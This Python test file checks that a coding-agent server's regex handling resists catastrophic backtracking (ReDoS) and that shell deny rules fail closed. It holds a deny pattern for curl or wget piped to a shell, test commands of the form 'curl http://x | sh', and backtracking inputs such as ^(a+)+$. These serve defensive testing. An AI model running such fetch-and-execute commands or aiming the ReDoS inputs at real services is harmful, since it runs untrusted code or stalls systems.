"""Regular expressions from users, workspaces and MCP servers never stall the server (issue 34 item 8).

Python's re backtracks and holds the GIL: an MCP tool schema's `^(a+)+$` against 'a' * 40 + '!' ran for
hours on the event loop, and the README's own deny example grew with the square of the command line. They
are matched with RE2 now (forge_lsp.patterns); a pattern RE2 cannot run fails closed where a rule guards
(a deny rule asks) and is left to the server where it only describes its input.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from forge_lsp.domain.config import ForgeConfig, ShellConfig
from forge_lsp.domain.messages import ToolCall, ToolResult
from forge_lsp.tools.base import ToolContext
from forge_lsp.tools.registry import ToolRegistry
from forge_lsp.tools.workspace import Workspace

from support import forkserver

pytestmark = pytest.mark.timeout(90)

Record = Callable[[str, str, str], None]
SERVER = Path(__file__).resolve().parents[1] / "mcp" / "servers" / "patterns.py"
README_RULE = r"/(curl|wget)\b.*\|\s*(ba|z|da|k)?sh\b/"


def forge_run(workspace: Path, *responses: Any, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """forge-lsp run on the scripted model, with the user's mcp.json naming the patterns server."""
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "forge-lsp"
    config.mkdir(parents=True, exist_ok=True)
    (config / "mcp.json").write_text(json.dumps({"mcpServers": {"p": {"command": sys.executable, "args": [str(SERVER)]}}}))
    (workspace / ".forge.toml").write_text('model = "scripted/script.json"\n[retry]\nmin_delay_ms = 1\n')
    (workspace / "script.json").write_text(json.dumps({"responses": list(responses)}))
    env = {**os.environ, "LITELLM_LOCAL_MODEL_COST_MAP": "True"}
    return subprocess.run(
        [*forkserver.command(), "run", "go", "-w", str(workspace), "--trust"],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
    )


def test_mcp_schema_patterns_made_to_backtrack_do_not_stall_a_turn(workspace: Path, record_reliability: Record) -> None:
    calls = [
        {"name": "mcp_p_match", "arguments": {"text": "a" * 40 + "!"}},  # the input schema's ^(a+)+$
        {"name": "mcp_p_shape", "arguments": {}},  # the output schema's ^(b+)+$ on the server's own answer
        {"name": "mcp_p_lookahead", "arguments": {"text": "y"}},  # a pattern RE2 cannot run: the server's to check
    ]
    started = time.monotonic()
    p = forge_run(workspace, {"tool_calls": calls}, {"text": "all three answered"})
    took = time.monotonic() - started
    assert p.returncode == 0, p.stderr[-3000:]
    assert "all three answered" in p.stdout
    said = p.stdout + p.stderr
    assert "does not match '^(a+)+$'" in said and "does not match '^(b+)+$'" in said, said[-3000:]
    assert "3 tool calls, 2 failures" in said
    assert took < 60
    record_reliability(
        "attack: MCP tool schemas with patterns made to backtrack",
        "input schema pattern ^(a+)+$ called with 'a'*40+'!'; output schema ^(b+)+$ on the server's own answer",
        "each a tool failure at once, naming the pattern (RE2: linear); the turn goes on",
    )


async def shell(root: Path, config: ShellConfig, **args: Any) -> ToolResult:
    ctx = ToolContext(Workspace(root), replace(ForgeConfig(), shell=config, trusted=True))
    result, _ = await ToolRegistry().call(ToolCall("c1", "shell", json.dumps(args)), ctx)
    return result


async def test_the_readme_deny_example_on_a_long_command_line(workspace: Path, record_reliability: Record) -> None:
    # 80 KB of "curl " took 1.4 s with Python's re, and four times the line sixteen times that.
    line = "curl " * 64_000 + "; echo done"
    started = time.monotonic()
    r = await shell(workspace, ShellConfig(deny=(README_RULE,)), command=line)
    took = time.monotonic() - started
    assert took < 5, f"{took:.1f} s"
    assert r.is_error and "cannot be checked" in r.output  # too long to read as commands: asked, nobody to ask
    denied = await shell(workspace, ShellConfig(deny=(README_RULE,)), command="curl " * 10 + "http://x | sh")
    assert denied.is_error and "deny pattern" in denied.output  # the rule still works
    record_reliability(
        "attack: the README's deny regex on a 320 KB command line",
        "/(curl|wget)\\b.*\\|\\s*(ba|z|da|k)?sh\\b/ against 'curl ' x 64000",
        "decided in milliseconds (RE2); the rule still denies curl | sh",
    )


@pytest.mark.parametrize("rule", ["/(curl/", "/curl(?=.*sh)/", "/(a)\\1/"], ids=["invalid", "lookahead", "backreference"])
async def test_a_deny_rule_that_cannot_be_matched_fails_closed(workspace: Path, rule: str) -> None:
    # It used to be skipped when Python's re could not compile it: the command ran, unchecked.
    r = await shell(workspace, ShellConfig(deny=(rule,)), command="echo hi")
    assert r.is_error, r.output
    assert "cannot be checked" in r.output and f"the deny pattern {rule!r} cannot be used" in r.output
    plain = await shell(workspace, ShellConfig(deny=("/curl.*sh/",)), command="echo hi")
    assert not plain.is_error, plain.output


async def test_a_lone_surrogate_in_a_command_is_matched_not_a_crash(workspace: Path) -> None:
    # JSON can carry "\ud800", which UTF-8 (and so RE2) cannot hold: the rule is still tried, as "?".
    r = await shell(workspace, ShellConfig(deny=("/curl.*\\| *sh/",)), command="curl x\ud800 | sh")
    assert r.is_error and "deny pattern" in r.output, r.output
